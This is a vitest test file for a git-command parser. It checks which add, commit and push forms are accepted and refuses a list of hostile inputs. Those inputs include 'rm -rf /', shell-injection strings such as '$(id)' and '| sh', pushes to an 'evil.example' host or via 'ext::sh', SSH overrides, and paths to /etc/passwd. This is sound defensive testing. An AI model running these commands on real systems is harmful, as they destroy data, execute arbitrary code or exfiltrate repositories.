/** Which git commands may be asked for. */
import { describe, expect, it } from 'vitest';
import { AppError } from '../../../src/contracts/errors.ts';
import { DEFAULT_GIT_COMMANDS, parseGitCommands } from '../../../src/domain/git-commands.ts';

describe('git commands', () => {
  it('by default add everything, commit and push', () => {
    expect(parseGitCommands(DEFAULT_GIT_COMMANDS)).toEqual([
      { kind: 'add', what: 'everything' },
      { kind: 'commit', message: '{commitMessage}', all: false },
      { kind: 'push', remote: null, branch: null },
    ]);
  });

  it.each([
    ['git add -A', { kind: 'add', what: 'everything' }],
    ['git add -u', { kind: 'add', what: 'tracked' }],
    ['git add src "a file.txt"', { kind: 'add', what: ['src', 'a file.txt'] }],
    ['git add -- ..a', { kind: 'add', what: ['..a'] }],
    [`git commit -am 'It''s $(done); `.concat("'"), { kind: 'commit', message: 'Its $(done); ', all: true }],
    ['git commit -m one --message=two -a', { kind: 'commit', message: 'one\n\ntwo', all: true }],
    ['git push -u origin feature/x', { kind: 'push', remote: 'origin', branch: 'feature/x' }],
    ['git push origin HEAD', { kind: 'push', remote: 'origin', branch: null }],
  ])('%s', (command, step) => expect(parseGitCommands([command])).toEqual([step]));

  it.each([
    'rm -rf /',
    'git',
    'git status',
    'git reset --hard',
    'git -c core.sshCommand=evil push',
    'git push --force',
    'git push -f',
    'git push origin +main',
    'git push origin main:prod',
    'git push origin :main',
    'git push https://evil.example/x.git',
    'git push ext::sh',
    'git push --receive-pack=evil origin',
    'git push --mirror',
    'git push a b c',
    'git add',
    'git add --all --force',
    'git add ../secret',
    'git add /etc/passwd',
    'git add a/../../b',
    'git add .git/config',
    'git add :(top)x',
    'git add --pathspec-from-file=/etc/passwd',
    'git commit',
    'git commit -m',
    'git commit --amend -m x',
    'git commit --no-verify -m x',
    'git commit -F /etc/passwd',
    'git commit -m x && rm -rf /',
    'git commit -m `id`',
    'git commit -m $(id)',
    'git commit -m "x',
    'git push; id',
    'git push | sh',
    'GIT_SSH=evil git push',
    '/usr/bin/git push',
    'git\tpush\n--force',
  ])('%j is refused', (command) => {
    try {
      parseGitCommands(['git add .', command]);
      expect.unreachable();
    } catch (error) {
      if (!AppError.is(error, 'invalid_input')) throw error;
      expect(error.details['fields']).toMatchObject([{ path: 'commands.1' }]);
    }
  });
});
